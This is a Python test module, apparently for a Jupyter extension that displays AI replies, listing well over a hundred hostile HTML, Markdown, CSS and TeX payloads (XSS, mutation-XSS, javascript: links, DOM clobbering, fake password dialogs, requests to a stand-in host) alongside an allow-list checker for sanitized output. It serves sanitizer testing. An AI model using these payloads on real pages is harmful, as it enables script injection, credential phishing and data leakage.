"""Hostile texts that try to run code, contact a server or imitate the page, and the HTML that is allowed.

`ran.name` is the code that a text tries to run, `OUT/name` its request, `--caught` its change of the page.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import TypeVar

from mimo_magics.core.messages import (
    Annotation,
    Message,
    ReasoningPart,
    Reply,
    TextPart,
    ToolCall,
    ToolResult,
)

OUT = "http://outside.invalid"
DATA = "data:text/html,<script>ran"
HOSTILE = {
    # Scripts
    "script": "<script>ran.script</script>",
    "remote script": f"<script src={OUT}/remote></script>",
    "module": f"<script type=module>import '{OUT}/imported'; ran.module</script>",
    "odd script": "<ScRiPt\x0c/x>ran.odd</sCrIpT\t>",
    "unclosed script": "<p><img src=x onerror=ran.unclosed //\n\n<script>ran.open//",
    "script in a script": "<scr<script></script>ipt>ran.inner</scr<script></script>ipt>",
    "script with nulls": "<p><scr\0ipt>ran.nulls</scr\0ipt><\0img src=x onerror=ran.null>",
    "script in capitals": "<ſcript>ran.s</ſcript><ıframe onload=ran.i>",  # Their capital letters are S and I.
    "wide script": "＜script＞ran.wide＜/script＞ ‹script›ran.wide‹/script›",
    "encoded script": "&lt;script&gt;ran.encoded&lt;/script&gt; &amp;lt;script> %3Cscript%3E \\x3cscript>",
    "drawn script": f"<svg><script>ran.draw</script><script href={OUT}/drawn></script></svg>",
    "speculation": f'<script type=speculationrules>{{"prefetch": [{{"urls": ["{OUT}/foreseen"]}}]}}</script>',
    "main script": f"<script data-main={OUT}/main src=require.js></script><script type=importmap>{{}}</script>",
    # Handlers
    "image": "<img src=x onerror=ran.image>",
    "old image": "<image src=x onerror=ran.old>",
    "drawing": "<svg onload=ran.drawing><text y=9>x</text></svg>",
    "fold": "<details open ontoggle=ran.fold><summary>x</summary>y</details>",
    "mouse": "<b onmouseover=ran.mouse>x</b>",
    "pointer": "<b onpointerenter=ran.pointer draggable=true ondragstart=ran.drag>x</b>",
    "click": "<b onclick=ran.click>x</b>",
    "key": "<b contenteditable tabindex=0 accesskey=x onkeydown=ran.key oninput=ran.input>x</b>",
    "focus": "<input autofocus onfocus=ran.focus>",
    "clipboard": "<b contenteditable oncopy=ran.copy onpaste=ran.paste>x</b>",
    "animation": "<style>@keyframes k {}</style><b style='animation: k 1s' onanimationstart=ran.moving>x</b>",
    "marquee": "<marquee onstart=ran.marquee>x</marquee>",
    "sound": "<audio src=x onerror=ran.sound></audio><video><source onerror=ran.film></video>",
    "body": "<body onload=ran.body onpageshow=ran.body onhashchange=ran.body>",
    "frames": "<frameset onload=ran.frames><frame src=javascript:ran.frames></frameset>",
    "popover": "<button popovertarget=p>x</button><b id=p popover onbeforetoggle=ran.popover>y</b>",
    "in view": "<b style='content-visibility: auto' oncontentvisibilityautostatechange=ran.view>x</b>",
    "slashes": "<p><img/src=x/onerror=ran.slashes><img\tsrc=x\x0conerror\n= ran.spaces>",
    "glued": "<p><b title='x'onclick=ran.glued>x</b><b =x onclick=ran.equal>x</b>",
    "backtick": "<p><img src=x alt='``onerror=ran.backtick'><img src=`x`onerror=ran.tick>",
    "unknown element": "<x-x onclick=ran.unknown is=x>x</x-x><isindex onfocus=ran.index autofocus>",
    # Links
    "link": "<a href=javascript:ran.link target=_self>x</a>",
    "split link": "<a href='&#1;java&Tab;script&NewLine;&colon;ran.split' target=_self>x</a>",
    "markdown link": "[x](javascript:ran.plain) [x][1] <javascript:ran.plain>\n\n[1]: JaVaScRiPt:ran.plain",
    "veiled link": "[x](&#106;avascript:ran.veiled) [x](java\tscript:ran.veiled) [x](\x01javascript:ran.veiled)",
    "bracketed link": "[x](<java\tscript:ran.tab>) [x](< javascript:ran.tab>) [x](<\xa0javascript:ran.tab>)",
    "entity link": "[x](javascript&colon;ran.entity) [x](&Tab;javascript&#58;ran.entity) [x](&#x6A;avascript:)",
    "escaped link": "[x](javascript\\:ran.escaped) [x](%6aavascript:ran.escaped) [x](\\x6aavascript:ran.escaped)",
    "remark link": f"[x](javascript://outside.invalid/%0Aran.remark) [x](javascript:/*{OUT}/*/ran.remark)",
    "reference link": "[x] [x][] [y][x]\n\n[x]: <javascript:ran.reference> 'x'\n[X]: vbscript:ran.reference",
    "basic link": "[x](vbscript:ran.basic) [x](VbScript:ran.basic) [x](livescript:x) [x](mocha:x)",
    "data link": f"[x]({DATA}.data</script>) [x](data:image/svg+xml;base64,PHN2Zz4=) [x](blob:x)",
    "autolink": f"<data:text/html,x> <vbscript:ran.auto> <x-y:ran.auto> <{OUT}/auto'onclick=ran.auto>",
    "picture link": "![x](javascript:ran.around) [![x](data:image/svg+xml,x)](javascript:ran.around)",
    "nested link": f"[x [y](javascript:ran.nested)]({OUT}/nested) [x ![y]({OUT}/y) z](javascript:ran.nested)",
    "programs": "[x](file:///etc/passwd) [x](vscode://x) [x](ms-msdt:/id) [x](tel:1) [x](view-source:x)",
    "own server": "[x](/lab?reset) [x](//127.0.0.1/tree) [x](\\\\127.0.0.1\\x) [x](?token=1) [x](#x) [x](../x)",
    "own server again": "[x](http:/lab?reset) [x](http:lab) [x](https:tree) <http:/lab> [x](http:\\\\x)",
    "empty link": "[x]() [x]( 'x') [x](<>) ![x]() [x][1]\n\n[1]: <>",
    "title": f'[x]({OUT}/x "\\"onmouseover=ran.title") [x]({OUT}/x \'"><b onclick=ran.title>\')',
    "address": f'[x](<{OUT}/"onmouseover="ran.address>) [x]({OUT}/\'onclick=x) [x]({OUT}/`onclick=x)',
    "link text": f"[<b onclick=ran.text>x</b>]({OUT}/x) [`<b onclick=ran.text>`]({OUT}/x) [</a><b>]({OUT}/x)",
    "alternative": f'![" onerror="ran.alt](x) ![<img src=x onerror=ran.instead>]({OUT}/alternative \'">\')',
    "mail": '[x](mailto:x@outside.invalid?attach=x) <x@outside.invalid> [x](mailto:"onclick="ran.mail)',
    "ping": f"<a href={OUT}/there ping={OUT}/ping download attributionsrc={OUT}/attribution>x</a>",
    # Frames and similar elements
    "document": '<iframe srcdoc="<script>ran.document</script>"></iframe>',
    "frame": f'<iframe src="{OUT}/frame"></iframe><object data="{OUT}/object"></object><embed src="{OUT}/embed">',
    "script frame": "<iframe src=javascript:top.ran.top></iframe><embed src=javascript:ran.embedded>",
    "data frame": f'<iframe src="{DATA}.data</script>"></iframe><object data="{DATA}.data</script>"></object>',
    "frame's end": "<iframe onload=ran.arrived></iframe><object data=x onerror=ran.missed></object>",
    "plug-in": f"<object classid=x codebase={OUT}/code><param name=src value={OUT}/x></object><applet code=x>",
    # Elements of the head
    "base": f'<base href="{OUT}/base/" target=_top>',
    "refresh": f'<meta http-equiv="refresh" content="0; url={OUT}/refresh">',
    "script refresh": "<meta http-equiv=refresh content='0; url=javascript:ran.refresh'>",
    "policy": "<meta http-equiv=Content-Security-Policy content='default-src x'><meta name=referrer content=x>",
    "preload": f"<link rel=preload as=image href={OUT}/preload><link rel=modulepreload href={OUT}/early>",
    "icon": f"<link rel=icon href={OUT}/icon><link rel=manifest href={OUT}/list><link rel=preconnect href={OUT}>",
    "settings": f'<script id=jupyter-config-data type=application/json>{{"baseUrl": "{OUT}/"}}</script><title>x',
    # Forms
    "form": "<form action=javascript:ran.form><button>Log in</button></form>",
    "sent form": f'<form action="{OUT}/form"><input name="password"><button>Log in</button></form>',
    "button": "<form><button formaction=javascript:ran.button>x</button></form>",
    "far button": "<form id=far></form><button form=far formaction=javascript:ran.far>x</button>",
    "picture button": f"<input type=image src={OUT}/button onerror=ran.submit>",
    # Drawings and formulas as markup
    "moved link": "<svg><a><animate attributeName=href values=javascript:ran.moved /><text>x</text></a></svg>",
    "beginning": "<svg><set attributeName=x onbegin=ran.begun></set><animate onend=ran.end dur=1ms></svg>",
    "drawn link": "<svg><a xlink:href=javascript:ran.linked><text y=9>x</text></a></svg>",
    "use": f"<svg><use href='data:image/svg+xml,<svg id=x onload=ran.use>#x' /><use href={OUT}/use#x /></svg>",
    "drawn picture": f"<svg><image href={OUT}/drawing /><filter><feImage href={OUT}/filter /></filter></svg>",
    "foreign": "<svg><foreignObject><b xmlns='http://www.w3.org/1999/xhtml' onclick=ran.foreign>x</b></svg>",
    "action": "<math><maction actiontype=statusline#x xlink:href=javascript:ran.action>x</maction></math>",
    "formula": "<math href=javascript:ran.formula><mi href=javascript:ran.formula onclick=ran.mi>x</mi></math>",
    "annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=ran.annotation></math>",
    # Styles
    "style": f"<style>@import url({OUT}/import); body {{ --caught: yes }}</style>",
    "overlay": f'<div style="position:fixed; inset:0; z-index:99; background:url({OUT}/overlay)">Log in</div>',
    "selector": f"<style>body[data-jp-theme-name^=J] {{ background: url({OUT}/selector) }}</style>",
    "hiding": "<style>.jp-InputArea { display: none } .jp-Toolbar::after { content: 'Log in' }</style>",
    "sheet": f'<link rel="stylesheet" href="{OUT}/sheet"><link rel="prefetch" href="{OUT}/prefetch">',
    "data sheet": "<link rel=stylesheet href='data:text/css,body{--caught:yes}'>",
    "font": f'<style>@font-face {{ font-family: f; src: url({OUT}/font) }}</style><p style="font-family:f">x</p>',
    "inline style": f"<p style='list-style: url({OUT}/dot) inside; display: list-item'>x</p>",
    "picture style": f"<p style='border: 1px solid; border-image: image-set(\"{OUT}/border\" 1x) 1'>x</p>",
    "pointer style": f"<p style='cursor: url({OUT}/cursor), auto; content: url({OUT}/content)'>x</p>",
    "old style": f"<p style='width: expression(ran.style); behavior: url({OUT}/old); -moz-binding: url(x)'>x",
    "presentation": f"<table background={OUT}/table><td background={OUT}/cell width=9999>x</table><font size=7>x",
    "blink": "<center><marquee direction=up><h1 style='font-size:99vh'>x</h1></marquee></center>",
    # Images and audio
    "markdown picture": f"![x]({OUT}/markdown) ![x][1] [![x]({OUT}/linked)]({OUT}/there)\n\n[1]: {OUT}/reference",
    "titled picture": f"![x]({OUT}/titled 'x') ![x](<{OUT}/bracketed>){{width=9999 onload=ran.titled}}",
    "picture": f'<img src="{OUT}/picture"><picture><source srcset="{OUT}/source"><img></picture>',
    "set": f"<img srcset='{OUT}/srcset 1x' sizes=100vw lowsrc={OUT}/low longdesc={OUT}/long usemap=#x>",
    "media": f'<audio src="{OUT}/audio" autoplay></audio><video src="{OUT}/video" poster="{OUT}/poster"></video>',
    "track": f"<video crossorigin><track default src={OUT}/track><source src={OUT}/film></video><bgsound src=x>",
    # Elements of the front end
    "command": '<button data-commandlinker-command="caught" data-commandlinker-args="{}">x</button>',
    "command link": '<a href="#" class=jp-Button data-commandlinker-command=caught data-command=caught>x</a>',
    "widget": '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "1"}</script>',
    "attachment": "![x](attachment:x.svg) ![x](files/x.svg) <img src=attachment:x onerror=ran.attached>",
    "dress": '<div class="jp-Dialog"><div class="jp-Dialog-content">Password?<input type="password"></div></div>',
    "dialog": "<dialog open class=jp-Dialog role=alertdialog aria-modal=true><input type=password></dialog>",
    "our dress": '<div class="mimo-reply mimo-live" dir=rtl id=mimo><details open><summary>x</summary></div>',
    "clobber": '<form id="jupyterapp" name="jupyterapp"><input name="commands" id="documentElement"></form>',
    "clobber more": "<a id=ran name=ran></a><img name=cookie><form name=body><img name=MathJax></form>",
    # Escapes from the surrounding markup
    "break": "</div></details></pre><script>ran.break</script>\n\n```\n</code></pre><script>ran.break</script>",
    "raw break": "</textarea></title></style></script></xmp></noembed></noframes><img src=x onerror=ran.raw>",
    "table break": "</div></td></tr></table></li></ol></small></p></summary><img src=x onerror=ran.out>",
    "quote break": "'\"`><img src=x onerror=ran.quote>' onclick=ran.quote x=\" onclick=ran.quote x=` onload=x",
    "comment": "<!--><img src=x onerror=ran.comment>--> <!-- --!><img src=x onerror=ran.bang> -->",
    "section": "<![CDATA[><img src=x onerror=ran.section>]]> <?x ><img src=x onerror=ran.order>?> <!x ><b>",
    "condition": "<!--[if gte IE 4]><script>ran.if</script><![endif]--> <!--><script>ran.if</script><!---->",
    "swallow": "<plaintext><xmp><listing><textarea><noframes><title><style><!--",
    "blank lines": f"x\r\r![x]({OUT}/blank)\r\n\r\n\x0c\n\n\x0b\n\u2028\u2029\n\x85\n<script>ran.blank</script>",
    "json": '{"x</code></pre>": "\\u003cimg src=x onerror=ran.json\\u003e", "y": ["<script>ran.json</script>"]}',
    "template": "{{ ran.template }} {% import 'os' %} ${ran.template} <%= x %> #{x} {{{x}}} {{<script>}}",
    # Markup that changes when it is parsed again
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ran.mutation>">',
    "changed form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran.forms>",
    "changed drawing": '<svg></p><style><a id="</style><img src=x onerror=ran.paragraph>">',
    "changed title": '<svg><desc><title><style><g id="</style><img src=x onerror=ran.subject>">',
    "changed table": '<table><caption><svg><title><table><caption></table><style><a id="</style><img onerror=ran.table>',
    "changed template": '<template><style><b id="</style></template><img src=x onerror=ran.template>">',
    "changed choice": '<select><template><style><!--</style><a id="--></select><img src=x onerror=ran.choice>">',
    "changed note": '<math><annotation-xml encoding=text/html><style><!--</style><b id="--><img onerror=ran.note>">',
    "changed section": '<svg><![CDATA[<style><a id="]]></svg><img src=x onerror=ran.part>">',
    "changed comment": '<svg><title><!--</title><img src="--><img src=x onerror=ran.aside>">',
    "changed frame": '<noembed><b id="</noembed><img src=x onerror=ran.embed>"><xmp><b id="</xmp><b>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=ran.noscript>"></noscript>',
    "shadow": "<div><template shadowrootmode=open><script>ran.shadow</script></template></div>",
    "deep": "<b>" * 520 + "<svg><style><a id='</style><img src=x onerror=ran.deep>'>",
    # Markdown and its extensions
    "table": f'|![x]({OUT}/head)|\n|-|\n|<img src=x onerror="ran.cell">|',
    "columns": '|x|\n|:-:" onclick="ran.column|\n\n|x|y|\n|:-:|-|\n|[x](javascript:x)|`|`<b onclick=ran.column>|',
    "heading": "# <b onclick=ran.heading>x</b> {#x onclick=ran.heading}\n\n<b onclick=ran.under>x</b>\n===",
    "list": "- [x] <b onclick=ran.list>x</b>\n- [ ] [x](javascript:ran.list)\n\n99999999999. x\n\n999999999. x",
    "attributes": f"[x]({OUT}/x){{onclick=ran.attributes .jp-Dialog style='position:fixed'}} *x*{{: onclick=x}}",
    "footnote": "x[^1] x^[<b onclick=ran.footnote>]\n\n[^1]: <img src=x onerror=ran.footnote> [x](javascript:x)",
    "language": "```html\"onload=ran.language><img\n<script>ran.language</script>\n```\n\n~~~'><script>x\nx\n~~~",
    "raw block": "```{=html}\n<script>ran.block</script>\n```\n\n`<script>x</script>`{=html}\n\n<div>\n\n*x*",
    "directive": "```{raw} html\n<script>ran.directive</script>\n```\n\n:::{include} /etc/passwd\n:::\n\n{raw:html}`<b>`",
    "mermaid": f"```mermaid\ngraph TD; a[\"<img src='{OUT}/mermaid' onerror='ran.mermaid'>\"]\n```",
    "loose mermaid": "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; a\nclick a call ran()\n```",
    "deep quotation": "> " * 150 + "<b onclick=ran.quotation>x</b>",
    "deep link": "[" * 150 + "x" + "](javascript:ran.link)" * 150,
    "deep emphasis": "*_" * 200 + "<b onclick=ran.emphasis>x</b>" + "_*" * 200,
    # TeX
    "math": r"$\href{javascript:ran.math}{x}$ $\style{position:fixed}{x}$ $\class{jp-Dialog}{x}$ $\cssId{a}{x}$",
    "math link": r"$\href{/lab?reset}{x}$ $\href{file:///etc/passwd}{x}$ $\href{http:lab}{x}$ $\href{#x}{x}$",
    "html in math": r"$\require{html}\href{javascript:ran.math}{x}$ $\data{commandlinker-command=caught}{x}$",
    "math token": r"$\mmlToken{mi}[style=position:fixed href=javascript:ran.token class=jp-Dialog id=x]{x}$",
    "math font": rf"$\mmlToken{{mtext}}[fontfamily='x;background:url({OUT}/family);position:fixed']{{x}}$",
    "math sign": rf"$\unicode[x;background:url({OUT}/sign);position:fixed]{{x41}}$ $\text{{<b onclick=ran.sign>}}$",
    "math macro": rf"$\let\q\unicode$ $\q [x;background:url({OUT}/macro);position:fixed]{{x41}}$ $\text{{$\q[x]{{x41}}$}}$",
    "math box": rf"$\bbox[position:fixed;inset:0;background:url({OUT}/bbox)]{{x}}$ $\bbox[red,border:9em solid]x$",
    "math loop": r"$\def\a{\a\a}\a$ $\newcommand\b[1]{\b{#1#1}}\b{x}$ $\let\c\d\let\d\c\c$ $\def\e#1{\e{#1}x}\e{}$",
    "math break": "$</span><img src=x onerror=ran.span>$ $$</div><script>ran.div</script>$$ \\[</div><b>\\]",
    "math size": r"$\rule{9999em}{9999em}$ $\hspace{-9999em}x$ $\raise 999em{x}$ $\color{red;position:fixed}x$",
    "open math": r"$$\begin{array}{" + "c" * 300 + "}" + "{" * 300 + r"\left(\href{javascript:ran.math}{x}",
    # Characters
    "direction": "\u202egnp.exe\u202c \u2067<b onclick=ran.turned>\u2069 [\u202ex](javascript:x) \u200f\u061c",
    "unseen": "<\u200bscript>ran.unseen</script> [x](java\u200dscript:ran.unseen) [x](java\xadscript:x) \U000e0041",
    "terminal": f"\x1b[2J\x1b]8;;{OUT}/terminal\x07x\x1b]8;;\x07\x1b[8mx\x9b31m\x08\x7f\r<b onclick=ran.esc>",
    "nulls": "[x](java\0script:ran.zero) <img src=x on\0error=ran.zero> \0<b\0 onclick=x> &#0;&#xFFFE;&#xD800;",
    "heap": "<b onclick=ran.heap>Z" + "\u0335\u0360\u0489" * 100 + "</b>",
}
"""Texts that a model may return."""

TAGS = (
    "a blockquote br code del details div em h1 h2 h3 h4 h5 h6 hr ins li ol p pre s small span strong summary table tbody "
    "td th thead tr ul"
)
MATH = "mathjax_process tex2jax_process"
NO_MATH = "mathjax_ignore tex2jax_ignore"


def styles(*declarations: str) -> str:
    """Return a pattern for a style of these declarations. A browser may space them differently or leave some out."""
    spaced = (re.escape(each).replace(":", ": ?").replace(",", ", ?") for each in declarations)
    return rf"(?:(?:{'|'.join(spaced)});? ?)*"


ATTRIBUTES = {
    "a href": r"(?s:http://.+)|mailto:\S*",
    "a rel": r"noopener noreferrer nofollow",
    "a title": r"(?s:.*)",
    "code style": styles("white-space:pre"),
    "details open": r"",
    "div align": r"left|center|right",
    "div class": rf"mimo-reply jp-RenderedHTMLCommon {NO_MATH}|{MATH}|{NO_MATH}|mimo-(before|behind|block|formula|head)",
    "div style": styles(
        "margin:0 0 1em",
        "border:1px solid #8886",
        "padding:0.25em 0.75em",
        "background:#8882",
        "font-size:85%",
        "display:grid",
        "grid-template-columns:repeat(auto-fit, minmax(min(17em, 100%), 1fr))",
        "gap:1em",
        "overflow-wrap:break-word",
        "padding:0.5em 1em",
        "page-break-inside:avoid",
        "white-space:pre-wrap",
        "display:flex",
        "flex-wrap:wrap",
        "gap:0.5em 1em",
        "align-items:flex-start",
        "margin:0 0 0.5em",
        "max-width:16em",
        "overflow-x:auto",
    ),
    "div tabindex": r"0",
    "ol start": r"\d+",
    "pre class": r"highlight",
    "pre tabindex": r"0",
    "pre style": styles(
        "max-height:20em",
        "overflow:auto",
        "white-space:pre-wrap",
        "margin:0",
        "margin:0 0 1em",
        "padding:0.5em 0.75em",
        "overflow-x:auto",
        "user-select:all",
    ),
    "span class": r"[a-z][a-z0-9]{0,2}|" + MATH,
    "td align": r"right",
    "th align": r"right",
    "del style": r"background:#f443",
    "hr style": r"display:none",
    "ins style": r"background:#2a63",
    "li style": r"list-style-type:none",
    "small style": r"opacity:0\.7",
    "summary style": r"opacity:0\.7",
    "tr style": r"background:none",
    "* aria-label": r"[\w ]+",
    "* dir": r"auto",
    "* role": r"group|region|status",
}
"""Attributes that a document may contain; they have no effect, and the styles stay inside. `*` is any element."""
PICTURES = {"img alt": r"(?s:.*)", "img referrerpolicy": r"no-referrer", "img src": ATTRIBUTES["a href"]}
"""Additional attributes if remote images are on."""

Found = TypeVar("Found", tuple[str, ...], list[str])
"""A tag, or a tag with an attribute and its value."""


def find_unexpected(found: Iterable[Found], more: Mapping[str, str] = {}) -> list[Found]:
    """Return the tags and attributes that a document must not contain."""
    rules = ATTRIBUTES | more
    tags = {*TAGS.split(), *(rule.partition(" ")[0] for rule in more)}
    return [each for each in found if each[0] not in tags or not _fits(rules, *each)]


def _fits(rules: Mapping[str, str], tag: str, name: str = "", value: str = "") -> bool:
    rule = rules.get(f"{tag} {name}", rules.get(f"* {name}", "(?!)"))
    return not name or bool(re.fullmatch(rule, value))


FORMS = ("markdown", "text", "json")
"""The display formats of a reply."""


def everywhere(text: str) -> Reply:
    """Return a reply with the text in every field that a server can set."""
    parts = (ReasoningPart(text), ToolCall(text, text, text), ToolResult(text, text, text), TextPart(text))
    source = Annotation(f"{OUT}/{text}", text, text, text, text)
    return Reply(Message("assistant", parts), None, text, text, text, (source,), (text,))
